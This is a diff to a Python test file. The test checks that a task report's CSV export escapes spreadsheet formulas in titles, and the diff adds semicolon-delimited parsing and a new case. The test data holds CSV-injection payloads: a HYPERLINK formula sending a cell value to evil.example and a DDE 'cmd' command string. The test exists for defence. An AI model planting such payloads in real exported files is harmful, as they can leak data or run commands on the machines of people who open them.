@@ -155,11 +155,11 @@ def test_overlapping_runs_of_a_report_record_one_run_and_leave_only_its_file(
 def test_a_report_keeps_a_titles_formula_as_text_for_whoever_opens_it_in_a_spreadsheet(
     app_env: dict[str, str], db: psycopg.Connection[tuple[object, ...]], bucket: Bucket
 ) -> None:
-    """A title that starts a line after a CR or LF inside it would start a row of its own in a reader that breaks
-    rows there unless the field is quoted; the file is read that way here, as Python's reader does with
-    `newline=""`."""
+    """Read as a spreadsheet would: quote-aware, breaking rows at a bare CR too, and, as in a locale whose list
+    separator is `;`, splitting fields at `;`, where the quotes of this comma-separated file start no field and a
+    line break inside a title starts a row again: what follows a `;` or a line break must not start a formula."""
     titles = ['=HYPERLINK("https://evil.example/?"&B2,"Open")', "@SUM(1+9)*cmd|' /C calc'!A0", "- milk", "plain"]
-    titles += ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2"]
+    titles += ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2", "a;=1+1;b;-c"]
     owner = _scalar(db, "INSERT INTO users (email, password_hash) VALUES ('f@example.com', 'x') RETURNING id")
     for title in titles:
         db.execute("INSERT INTO tasks (owner_id, title) VALUES (%s, %s)", (owner, title))
@@ -167,10 +167,14 @@ def test_a_report_keeps_a_titles_formula_as_text_for_whoever_opens_it_in_a_sprea
     with create_pool(settings, max_size=1, name="test") as pool:
         written = reports.write_report(pool, Storage(settings), report_id=reports.create_report(pool, owner_id=None))
     assert written is not None
-    rows = list(csv.reader(io.StringIO(bucket.blob(written.object_name).download_as_text(), newline="")))
-    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []
+    text = bucket.blob(written.object_name).download_as_text()
+    for separator in (",", ";"):
+        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == [], separator
+    rows = list(csv.reader(io.StringIO(text, newline="")))
     column = rows[0].index("title")
-    assert sorted(row[column] for row in rows[1:]) == sorted([*(f"'{t}" for t in titles[:3]), *titles[3:]])
+    expected = [*(f"'{t}" for t in titles[:3]), "plain", "x\r'=1+1", "y\n'@SUM(1)", "z\r\n'-2", "a;'=1+1;b;'-c"]
+    assert sorted(row[column] for row in rows[1:]) == sorted(expected)
 
 
 def test_outbox_sweep_redelivers_overdue_jobs_that_redis_lost_with_its_data(
